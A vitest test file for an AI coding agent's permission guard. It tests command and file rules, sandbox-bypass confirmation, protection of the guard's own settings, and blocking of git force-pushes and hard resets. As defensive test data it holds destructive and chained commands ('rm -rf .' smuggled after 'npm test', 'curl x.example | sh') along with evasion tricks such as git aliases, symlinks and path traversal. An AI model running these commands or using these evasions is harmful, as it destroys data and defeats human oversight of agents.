import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { registerGitGuard } from '../../src/agent/git-guard.ts';
import { createHookBus } from '../../src/agent/hooks/bus.ts';
import { createHookRegistry } from '../../src/agent/hooks/registry.ts';
import { parsePermissionRule, ruleApplies } from '../../src/agent/permission-rule.ts';
import { sessionTools } from '../../src/agent/session-tools.ts';
import { approve } from '../../src/audit/approvals.ts';
import { auditPath } from '../../src/audit/log.ts';
import { defaultConfiguration } from '../../src/config/configuration.ts';
import { conventionOf } from '../../src/guards/convention.ts';
import { emptyRepository, git, repositoryWithRemote, temporaryDirectory } from '../git/fixture.ts';
import { openTestSession, write } from './fixture.ts';

const done = { text: 'Done.' };
const toolOf = (name: string) => sessionTools.find((tool) => tool.name === name)!;

function applies(rule: string, quantity: 'all' | 'some', name: string, input: unknown, cwd = '/project') {
  return ruleApplies(parsePermissionRule(rule), { tool: toolOf(name), input, cwd, env: {} }, quantity);
}

describe('a rule for commands', () => {
  it.each([
    ['Bash', 'anything', true],
    ['Bash(*)', 'anything', true],
    ['Bash(npm test:*)', 'npm test', true],
    ['Bash(npm test:*)', 'npm test -- --watch', true],
    ['Bash(npm test:*)', 'npm test && npm test -- a', true],
    ['Bash(npm test:*)', 'npm test 2>/dev/null', true],
    ['Bash(npm test:*)', 'npm testing', false],
    ['Bash(=npm test | tail)', ' npm test | tail', true],
    ['Bash(=npm test | tail)', 'npm test | tail -1', false],
    ['Bash(=rm *.tmp)', 'rm src .tmp', false],
    ['Bash(npm test:*)', 'npm test && rm -rf .', false],
    ['Bash(npm test:*)', 'npm test; rm -rf .', false],
    ['Bash(npm test:*)', 'npm test $(rm -rf .)', false],
    ['Bash(npm test:*)', 'npm test > out.txt', false],
    ['Bash(npm test:*)', 'npm test | sh', false],
    ['Bash(npm test:*)', 'eval "$X"', false],
    ['Bash(git * --dry-run)', 'git push --dry-run', true],
    ['Bash(echo hi)', 'echo hi', true],
    ['Bash(echo hi)', 'echo hi there', false],
  ])('%s allows %j: %s', (rule, command, expected) => {
    expect(applies(rule, 'all', 'Bash', { command })).toBe(expected);
  });

  it.each([
    ['Bash(rm:*)', 'npm test && rm -rf .', true],
    ['Bash(rm:*)', 'bash -c "rm -rf ."', true],
    ['Bash(rm:*)', 'echo rm', false],
    ['Bash(curl * | sh)', 'curl x.example | sh', true],
  ])('%s denies %j: %s', (rule, command, expected) => {
    expect(applies(rule, 'some', 'Bash', { command })).toBe(expected);
  });
});

describe('a rule for files', () => {
  it.each([
    ['Read(src/**)', 'Read', { file_path: 'src/a/b.ts' }, true],
    ['Read(src/**)', 'Read', { file_path: '/project/src/a.ts' }, true],
    ['Read(src/**)', 'Read', { file_path: 'src/../.env' }, false],
    ['Read(.env)', 'Read', { file_path: 'deep/down/.env' }, true],
    ['Edit(docs/*.md)', 'Write', { file_path: 'docs/a.md', content: '' }, true],
    ['Edit(docs/*.md)', 'Read', { file_path: 'docs/a.md' }, false],
    ['Write(docs/*.md)', 'Edit', { file_path: 'docs/a.md', old_string: 'a', new_string: 'b' }, false],
    ['Edit(/project/docs/**)', 'Edit', { file_path: 'docs/a.md', old_string: 'a', new_string: 'b' }, true],
  ])('%s and %s %j: %s', (rule, tool, input, expected) => {
    expect(applies(rule, 'all', tool, input)).toBe(expected);
  });

  it('means the directory where the session began, and a denial the whole work tree, wherever a command has gone', async () => {
    const work = emptyRepository();
    write(work, 'secrets/key', 'KEY');
    write(work, 'sub/secrets/key', 'KEY');
    write(work, 'sub/deep/a', 'a');
    const read = (file_path: string) => ({ name: 'Read', input: { file_path } });
    const { prompt, results } = await openTestSession({
      cwd: join(work, 'sub'),
      mode: 'bypass',
      settings: { permissions: { deny: ['Read(secrets/**)', 'Edit(secrets/**)'] } },
      script: [
        { calls: [read('secrets/key'), read('../secrets/key')] },
        running('cd deep'),
        {
          calls: [
            read('../secrets/key'),
            read('../../secrets/key'),
            { name: 'Write', input: { file_path: '../secrets/new', content: 'x' } },
            read('a'),
          ],
        },
        done,
      ],
    });
    await prompt();
    expect(results('Read').map(({ is_error }) => is_error)).toEqual([true, true, true, true, false]);
    expect(results('Write')).toMatchObject([{ is_error: true, content: expect.stringContaining('forbids it') }]);
  });

  it('keeps what may not be read, and what must be asked about, out of a search', async () => {
    const cwd = emptyRepository();
    for (const path of ['.env', 'sub/.env', 'private/a', 'b']) {
      write(cwd, path, `KEY of ${path}\n`);
    }
    const search = { calls: [{ name: 'Grep', input: { pattern: 'KEY', output_mode: 'content' } }] };
    const { prompt, results } = await openTestSession({
      cwd,
      settings: { permissions: { deny: ['Read(.env)'], ask: ['Read(private/**)'] } },
      script: [search, done],
    });
    await prompt();
    expect(results('Grep')).toMatchObject([
      { content: 'b:1:KEY of b\n[3 files were left out: the configuration does not let them be read.]' },
    ]);
  });

  it('that allows a directory does not cover a link out of it', () => {
    const cwd = temporaryDirectory();
    write(cwd, 'secret/key', 'x');
    write(cwd, 'src/a', 'x');
    symlinkSync(join(cwd, 'secret/key'), join(cwd, 'src/link'));
    expect(applies('Read(src/**)', 'all', 'Read', { file_path: 'src/link' }, cwd)).toBe(false);
    expect(applies('Read(secret/**)', 'some', 'Read', { file_path: 'src/link' }, cwd)).toBe(true);
  });
});

const writing = { calls: [{ name: 'Write', input: { file_path: 'a.txt', content: 'x' } }] };
const running = (command: string, more = {}) => ({ calls: [{ name: 'Bash', input: { command, ...more } }] });

describe('a permission mode', () => {
  it.each([
    ['default', 1, 'once', true],
    ['default', 1, 'deny', false],
    ['accept-edits', 0, 'deny', true],
    ['plan', 0, 'once', false],
    ['bypass', 0, 'deny', true],
  ] as const)('%s asks %i times before a file is written', async (mode, questions, kind, written) => {
    const { prompt, asked, cwd } = await openTestSession({
      mode,
      answer: kind === 'once' ? { kind } : { kind, reason: 'Not there' },
      script: [writing, done],
    });
    await prompt();
    expect(asked).toHaveLength(questions);
    expect(existsSync(join(cwd, 'a.txt'))).toBe(written);
  });

  it.each([
    ['default', 1],
    ['accept-edits', 1],
    ['bypass', 0],
  ] as const)('%s asks %i times before a command runs', async (mode, questions) => {
    const { prompt, asked, results } = await openTestSession({
      mode,
      answer: { kind: 'once' },
      script: [running('echo hi'), done],
    });
    await prompt();
    expect(asked).toHaveLength(questions);
    expect(results('Bash')).toMatchObject([{ is_error: false, content: expect.stringContaining('hi') }]);
  });

  const keyed = '{"name": "x", "oxide-guard": {"protectedBranches": ["dev"]}}';
  it.each([
    ['the key is added', '{"name": "x"}', 'Write', { content: '{"name": "x", "oxide-guard": {"rules": {}}}' }, 1],
    ['the key goes', keyed, 'Write', { content: '{"name": "x"}' }, 1],
    ['the key stays', keyed, 'Write', { content: `{"version": "1.0.0", ${keyed.slice(1)}` }, 0],
    ['a rule is edited', keyed, 'Edit', { old_string: '["dev"]', new_string: '[], "rules": {"force-push": "off"}' }, 1],
    ['another key is edited', keyed, 'Edit', { old_string: '"name": "x"', new_string: '"name": "y"' }, 0],
  ] as const)('asks about package.json where %s', async (_, manifest, name, input, questions) => {
    const cwd = emptyRepository();
    writeFileSync(join(cwd, 'package.json'), manifest);
    const { prompt, asked } = await openTestSession({
      cwd,
      mode: 'bypass',
      script: [{ calls: [{ name, input: { file_path: 'package.json', ...input } }] }, done],
    });
    await prompt();
    expect(asked).toHaveLength(questions);
  });

  it('never lets a change of the guard’s configuration through unasked', async () => {
    const { prompt, asked } = await openTestSession({
      mode: 'bypass',
      script: [
        { calls: [{ name: 'Write', input: { file_path: 'oxide-guard.config.json', content: '{"rules":{}}' } }] },
        done,
      ],
    });
    await prompt();
    expect(asked).toMatchObject([
      { tool: 'Write', reason: expect.stringContaining('decides what the guard lets through') },
    ]);
  });

  it.each([
    ['through a symbolic link to it', 'link.json'],
    ['in another case, as some file systems don’t mind', 'OXIDE-GUARD.config.json'],
    ['by a way around', 'sub/../oxide-guard.config.json'],
    ['through a link to a directory of another agent’s settings', 'linked/settings.json'],
    ['of what other agents run', '.mcp.json'],
    ['of the session’s subagents', '.oxide-guard/agents/x.md'],
    ['of a hook that git runs', 'tools/hooks/pre-push'],
    ['of husky’s hooks', '.husky/pre-push'],
  ])('nor a change %s', async (_, file_path) => {
    const cwd = emptyRepository();
    symlinkSync('oxide-guard.config.json', join(cwd, 'link.json'));
    symlinkSync('.claude', join(cwd, 'linked'));
    mkdirSync(join(cwd, 'tools/hooks'), { recursive: true });
    git(cwd, 'config', 'core.hooksPath', 'tools/hooks');
    const { prompt, asked } = await openTestSession({
      cwd,
      mode: 'bypass',
      script: [{ calls: [{ name: 'Write', input: { file_path, content: '{}' } }] }, done],
    });
    await prompt();
    expect(asked).toMatchObject([{ tool: 'Write' }]);
  });
});

describe('rules and answers', () => {
  it('deny beats ask beats allow, in bypass mode, too', async () => {
    const permissions = { allow: ['Bash'], ask: ['Bash(echo:*)'], deny: ['Bash(echo no:*)'] };
    const { prompt, asked, results } = await openTestSession({
      mode: 'bypass',
      settings: { permissions },
      answer: { kind: 'once' },
      script: [running('true'), running('echo yes'), running('echo no'), done],
    });
    await prompt();
    expect(asked).toHaveLength(1);
    expect(results().map(({ is_error }) => is_error)).toEqual([false, false, true]);
  });

  it('an answer for the session is remembered, for what it was given', async () => {
    const { prompt, asked } = await openTestSession({
      answer: { kind: 'session' },
      script: [running('echo one'), running('echo one more'), running('true'), done],
    });
    await prompt();
    expect(asked.map(({ sessionRule }) => sessionRule)).toEqual(['Bash(echo one:*)', 'Bash(true:*)']);
  });

  it('an answer for the session to a command line that is no simple one holds for exactly that', async () => {
    const lines = ['rm -f *.tmp', 'rm -f src .tmp', 'echo a | cat', 'echo a | cat; echo b', 'A=1 true', 'A=1 true'];
    const { prompt, asked } = await openTestSession({
      answer: { kind: 'session' },
      script: [...lines.flatMap((line) => [running(line), running(line)]), done],
    });
    await prompt();
    expect(asked.map(({ sessionRule }) => sessionRule)).toEqual([...new Set(lines)].map((line) => `Bash(=${line})`));
  });

  it('a refusal tells the model what the user would rather have', async () => {
    const { prompt, results } = await openTestSession({
      answer: { kind: 'deny', reason: 'Use printf.' },
      script: [running('echo one'), done],
    });
    await prompt();
    expect(results()).toMatchObject([{ is_error: true, content: 'Denied: The user refused it: Use printf.' }]);
  });

  it('where nobody can answer, it is a denial that says so', async () => {
    const { prompt, results } = await openTestSession({ script: [running('echo one'), done] });
    await prompt();
    expect(results()[0]?.content).toContain('nobody could answer: this is a test');
  });
});

describe('a command without the sandbox', () => {
  const unsandboxed = running('echo hi', { dangerouslyDisableSandbox: true });

  it('needs a confirmation of its own, whatever rules, mode and earlier answers say', async () => {
    const { prompt, asked } = await openTestSession({
      mode: 'bypass',
      settings: { permissions: { allow: ['Bash'] } },
      answer: { kind: 'session' },
      script: [unsandboxed, unsandboxed, done],
    });
    await prompt();
    expect(asked).toMatchObject([
      { reason: expect.stringContaining('without the sandbox'), sessionRule: null },
      { reason: expect.stringContaining('without the sandbox'), sessionRule: null },
    ]);
  });

  it('is asked apart from "Bash may run"', async () => {
    const { prompt, asked, results } = await openTestSession({
      answer: ({ reason }) => (reason.includes('sandbox') ? { kind: 'deny', reason: '' } : { kind: 'once' }),
      script: [unsandboxed, done],
    });
    await prompt();
    expect(asked).toHaveLength(2);
    expect(results()).toMatchObject([{ is_error: true }]);
  });

  it.each([[{ allowUnsandboxed: false }], [{ permissions: { deny: ['Bash(dangerouslyDisableSandbox)'] } }]])(
    'can be forbidden by %j',
    async (settings) => {
      const { prompt, asked, results } = await openTestSession({
        mode: 'bypass',
        settings,
        answer: { kind: 'once' },
        script: [unsandboxed, running('echo hi'), done],
      });
      await prompt();
      expect(asked).toEqual([]);
      expect(results().map(({ is_error }) => is_error)).toEqual([true, false]);
    },
  );
});

describe('the git guard', () => {
  it.each(['default', 'accept-edits', 'bypass'] as const)(
    'holds in mode %s, by effect, not by spelling',
    async (mode) => {
      const { work, remote } = repositoryWithRemote();
      git(work, 'config', 'alias.publish', 'push --force origin main');
      const before = git(remote, 'rev-parse', 'main');
      git(work, 'commit', '--amend', '--allow-empty', '--quiet', '-m', 'feat: other');
      const { prompt, asked, results, events } = await openTestSession({
        cwd: work,
        mode,
        settings: { permissions: { allow: ['Bash'] } },
        answer: { kind: 'once' },
        script: [running('git publish'), done],
      });
      await prompt();
      expect(asked).toEqual([]);
      expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('[protected-force-push]') }]);
      expect(events.find(({ type }) => type === 'permission')).toMatchObject({
        verdict: 'deny',
        rule: 'protected-force-push',
        findings: [{ rule: 'protected-force-push', suggestion: expect.any(String) }],
      });
      expect(git(remote, 'rev-parse', 'main')).toBe(before);
    },
  );

  it('also judges the command of a Task', async () => {
    const { work } = repositoryWithRemote();
    const { prompt, results } = await openTestSession({
      cwd: work,
      mode: 'bypass',
      script: [
        {
          calls: [
            {
              name: 'Task',
              input: { description: 'Push', command: 'git push -f origin main', run_in_background: true },
            },
          ],
        },
        done,
      ],
    });
    await prompt();
    expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('protected-force-push') }]);
  });

  it('asks the user in every mode; a hook’s allowance is no answer to that', async () => {
    const { work } = repositoryWithRemote();
    write(work, 'a.txt', 'changed');
    git(work, 'add', '--all');
    const { prompt, asked, results } = await openTestSession({
      cwd: work,
      mode: 'bypass',
      settings: { permissions: { allow: ['Bash'] } },
      answer: { kind: 'deny', reason: '' },
      hooks: (registry) =>
        registry.register('PermissionRequest', 'test', () => ({
          hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'allow' } },
        })),
      script: [running('git reset --hard'), done],
    });
    await prompt();
    expect(asked).toMatchObject([{ findings: [{ rule: 'discard-changes' }], sessionRule: null }]);
    expect(results()).toMatchObject([{ is_error: true }]);
    expect(existsSync(join(work, 'a.txt'))).toBe(true);
  });

  it('takes an approval from another terminal, once, and keeps the trail', async () => {
    const { work } = repositoryWithRemote();
    write(work, 'a.txt', 'changed');
    git(work, 'add', '--all');
    const { prompt, results } = await openTestSession({
      cwd: work,
      mode: 'bypass',
      script: [running('git reset --hard'), done, running('git reset --hard'), running('git status'), done],
    });
    await prompt();
    const id = /oxide-guard approve (\w+)/.exec(results()[0]?.content ?? '')?.[1] ?? '';
    approve(join(work, '.git'), id);
    await prompt('Approved');
    expect(results().map(({ is_error }) => is_error)).toEqual([true, false, false]);
    expect(existsSync(join(work, 'a.txt'))).toBe(false);
    const trail = readFileSync(auditPath(join(work, '.git')), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown);
    expect(trail).toMatchObject([
      { front: 'agent', verdict: 'ask', answer: 'nobody', rules: ['discard-changes'] },
      { front: 'agent', verdict: 'allow', answer: 'approval', checkpoint: expect.stringMatching(/^agent-.*\/1$/) },
    ]);
  });

  it('takes an approval for no other call, whatever ids a server gives to calls', async () => {
    const { work } = repositoryWithRemote();
    write(work, 'a.txt', 'changed');
    git(work, 'add', '--all');
    const reset = { calls: [{ id: 'call_0', name: 'Bash', input: { command: 'git reset --hard' } }] };
    const edit = { calls: [{ id: 'call_0', name: 'Write', input: { file_path: 'b.txt', content: 'b' } }] };
    const { prompt, results } = await openTestSession({
      cwd: work,
      script: [reset, done, { calls: [...edit.calls, ...edit.calls] }, done],
    });
    await prompt();
    const id = /oxide-guard approve (\w+)/.exec(results()[0]?.content ?? '')?.[1] ?? '';
    approve(join(work, '.git'), id);
    await prompt('Approved');
    expect(results().map(({ is_error }) => is_error)).toEqual([true, true, true]);
    expect(existsSync(join(work, 'b.txt'))).toBe(false);
  });

  it('keeps apart what agents ask that work at the same time', async () => {
    const { work } = repositoryWithRemote();
    const registry = createHookRegistry({});
    const guard = registerGitGuard(registry, {
      env: process.env,
      convention: async () => conventionOf(defaultConfiguration),
      commandOf: (_, input) => (input as { command?: string }).command ?? null,
    });
    const bus = createHookBus({ registry, cwd: work, env: process.env });
    const ask = (agentId: string | undefined, command: string | undefined) =>
      bus.emit(
        {
          hook_event_name: 'PermissionRequest',
          session_id: 's',
          cwd: work,
          tool_name: 'Bash',
          tool_input: command === undefined ? {} : { command },
          tool_use_id: 'call_0',
          ...(agentId === undefined ? {} : { agent_id: agentId }),
        },
        new AbortController().signal,
      );
    await Promise.all([ask(undefined, 'git push --force origin main'), ask('agent-1', 'git status')]);
    const verdict = (agentId?: string) => guard.findingsOf({ id: 'call_0', agentId })?.verdict;
    expect([verdict(), verdict('agent-1'), verdict('agent-2')]).toEqual(['deny', 'allow', undefined]);
    await ask(undefined, undefined);
    expect(verdict()).toBeUndefined();
  });

  it('judges an input that a hook has changed anew', async () => {
    const { work } = repositoryWithRemote();
    const { prompt, results } = await openTestSession({
      cwd: work,
      mode: 'bypass',
      hooks: (registry) =>
        registry.register('PermissionRequest', 'test', () => ({
          hookSpecificOutput: {
            hookEventName: 'PermissionRequest',
            decision: { behavior: 'allow', updatedInput: { command: 'git push -f origin main' } },
          },
        })),
      script: [running('git status'), done],
    });
    await prompt();
    expect(results()).toMatchObject([{ is_error: true, content: expect.stringContaining('protected-force-push') }]);
  });
});
